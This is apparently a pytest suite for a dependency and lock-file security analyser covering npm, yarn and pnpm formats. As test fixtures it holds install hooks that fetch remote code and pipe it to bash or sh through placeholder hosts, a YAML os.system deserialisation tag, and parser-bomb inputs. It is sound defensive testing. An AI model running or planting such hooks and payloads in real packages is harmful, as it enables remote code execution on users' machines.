import json
from typing import Any

import pytest
from analysis_kit import assert_fits_document
from script_kit import SERVER, assembled, found_in

from miner.analysis.analyse import analyse
from miner.analysis.bounds import MAX_LOCK, MAX_LOCKED, MAX_PACKAGES
from miner.analysis.result import BEYOND, Analysis
from miner.npm_advisories import TABLE


def of_package(document: dict[str, Any]) -> Analysis:
    return analyse({"package.json": assembled(json.dumps(document, indent=1)).encode()}, SERVER)


def pins(analysis: Analysis) -> dict[str, str]:
    return {dependency.package: dependency.version for dependency in analysis.dependencies}


@pytest.mark.parametrize("hook", ["preinstall", "install", "postinstall", "build"])
def test_scripts_are_read_as_shell(hook: str) -> None:
    analysis = of_package({"name": "a", "scripts": {"x": "tsc", hook: "<CURL> https://<HOST>/i | bash"}})
    assert found_in(analysis, "package.json") == {("critical", "excessive_capability", 5)}
    assert analysis.capabilities == (() if hook == "build" else ("subprocess",))


def test_code_that_a_script_gives_to_node_is_read() -> None:
    code = "require('child_process').exec('<CURL> https://<HOST> | sh')"
    analysis = of_package({"scripts": {"preinstall": f'node -e "{code}"'}})
    assert ("critical", "excessive_capability", 3) in found_in(analysis, "package.json")
    assert of_package({"scripts": {"preinstall": 'node -e "console.log(1)"'}}).findings == ()


def test_more_scripts_than_are_read_are_said() -> None:
    long = f"echo {'a' * 3_000}"  # costs the parser little
    scripts = {f"s{n:03}": long for n in range(50)}
    assert BEYOND in {f.description for f in of_package({"scripts": scripts}).findings}
    calls = f"require('child_process').exec('{long}');\n".encode()
    assert BEYOND in {f.description for f in analyse({"a.js": calls * 50}, SERVER).findings}


@pytest.mark.parametrize("script", ["tsc && chmod +x dist/index.js", "rimraf dist", "node install.js", "husky || true"])
def test_usual_scripts_are_no_findings(script: str) -> None:
    assert of_package({"scripts": {"build": script, "postinstall": script}}).findings == ()


def test_a_command_in_place_of_the_system_s_is_a_finding() -> None:
    analysis = of_package({"bin": {"tool": "a.js", "git": "b.js"}})
    assert found_in(analysis, "package.json") == {("high", "excessive_capability", 4)}
    assert of_package({"bin": "a.js"}).findings == ()


def test_exact_versions_are_dependencies_and_open_ones_are_said() -> None:
    analysis = of_package(
        {
            "dependencies": {"lodash": "4.17.20", "zod": "^3.0.0", "open": "*", "elsewhere": "github:o/r"},
            "devDependencies": {"axios": "0.21.0"},
        }
    )
    assert pins(analysis) == {"lodash": "4.17.20"}
    assert found_in(analysis, "package.json") == {
        ("high", "dependency_cve", 3),
        ("low", "other", 5),
        ("low", "other", 6),
    }
    finding = analysis.findings[0]
    assert (finding.cve_ids, finding.target_pattern) == (("CVE-2021-23337",), "pkg:npm/lodash@4.17.20")


@pytest.mark.parametrize(
    "content", [b"", b"[]", b"{", b'{"a": 1, "a": 2}', b"\xff\xfe", b"[" * 10_000, b"{}" + b" " * 300_000]
)
def test_packages_that_cannot_be_read_are_findings(content: bytes) -> None:
    analysis = analyse({"package.json": content}, SERVER)
    assert [(f.category, f.severity) for f in analysis.findings] == [("other", "medium")]


def test_values_of_other_types_are_borne() -> None:
    document = {"scripts": {"a": 1, "b": None}, "bin": [1], "dependencies": {"a": {"b": 1}, "c": []}, "name": {}}
    assert_fits_document(of_package(document), {"package.json": json.dumps(document, indent=1).encode()}, SERVER)
    assert of_package({"scripts": ["x"], "dependencies": "y"}).findings == ()


NPM = {
    "lockfileVersion": 3,
    "packages": {
        "": {"name": "a", "version": "1.0.0"},
        "node_modules/minimist": {"version": "1.2.5"},
        "node_modules/@scope/x/node_modules/ws": {"version": "8.18.0"},
    },
}
OLD_NPM = {"dependencies": {"minimist": {"version": "1.2.5", "dependencies": {"ws": {"version": "8.18.0"}}}}}
YARN = '# yarn lockfile v1\n\n"minimist@^1.2.0", minimist@1.x:\n  version "1.2.5"\n\nws@^8:\n  version "8.18.0"\n'
BERRY = '__metadata:\n  version: 8\n\n"minimist@npm:^1.2.0":\n  version: 1.2.5\n\n"ws@npm:^8":\n  version: 8.18.0\n'
PNPM = (
    "lockfileVersion: '9.0'\n\nimporters:\n  a@9.9.9:\n    x: 1\n\npackages:\n\n"
    "  minimist@1.2.5:\n    resolution: {}\n\n  ws@8.18.0(bufferutil@4.0.0):\n    dev: true\n"
)
OLD_PNPM = "packages:\n\n  /minimist/1.2.5:\n    a: 1\n\n  /ws@8.18.0:\n    b: 1\n"
LOCKS = {
    "npm": ("package-lock.json", json.dumps(NPM, indent=1), 8),
    "npm's of old": ("npm-shrinkwrap.json", json.dumps(OLD_NPM, indent=1), 3),
    "yarn": ("yarn.lock", YARN, 3),
    "yarn's of today": ("yarn.lock", BERRY, 4),
    "pnpm": ("pnpm-lock.yaml", PNPM, 9),
    "pnpm's of old": ("pnpm-lock.yaml", OLD_PNPM, 3),
}


@pytest.mark.parametrize("tool", LOCKS)
def test_lock_files_say_what_is_installed(tool: str) -> None:
    name, text, line = LOCKS[tool]
    analysis = analyse({name: text.encode()}, SERVER)
    assert pins(analysis) == {"minimist": "1.2.5", "ws": "8.18.0"}
    assert found_in(analysis, name) == {("critical", "dependency_cve", line)}


HOSTILE = {
    "aliases": b"a: &a [*a, *a]\nb: &b [*a,*a,*b]\npackages:\n  <<: *b\n  minimist@1.2.5: &x *x\n",
    "tags": b"packages: !!python/object/apply:os.system ['x']\n",
    "long lines": b"packages:\n  " + b"a" * 300_000 + b"@1.2.3:\n" + b"  'a@1.2.3(" + b"(" * 100_000,
    "no text": bytes(range(256)) * 40,
    "depth": b'{"packages":' * 5_000,
    "bomb": b'{"packages":{' + b",".join(b'"node_modules/%d":{"version":"1.0.0"}' % n for n in range(20_000)) + b"}}",
    "types": b'{"packages": [1], "dependencies": {"a": {"version": {}, "dependencies": [{}]}}}',
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_lock_files_are_borne(name: str) -> None:
    files = dict.fromkeys(("package-lock.json", "yarn.lock", "pnpm-lock.yaml"), HOSTILE[name])
    analysis = analyse(files, SERVER)
    assert_fits_document(analysis, files, SERVER)
    assert len(analysis.dependencies) <= MAX_LOCKED


def test_a_lock_file_that_is_too_large_is_said() -> None:
    analysis = analyse({"yarn.lock": YARN.encode() + b"#" * MAX_LOCK}, SERVER)
    assert (analysis.dependencies, found_in(analysis, "yarn.lock")) == ((), {("low", "other", 1)})


def test_more_packages_than_are_read_are_said() -> None:
    files = {f"packages/p{n:03}/package.json": b"{}" for n in range(MAX_PACKAGES + 2)}
    places = [f.evidence_ref for f in analyse(files, SERVER).findings]
    assert places == [f"packages/p{MAX_PACKAGES:03}/package.json#L1-L1"]


def test_advisories_are_sorted_and_their_ranges_are_read() -> None:
    assert list(TABLE) == sorted(TABLE)
    for advisory in TABLE:
        version = advisory.affected[-1].rpartition("<")[2]
        assert pins(of_package({"dependencies": {advisory.package: version}})) == {advisory.package: version}
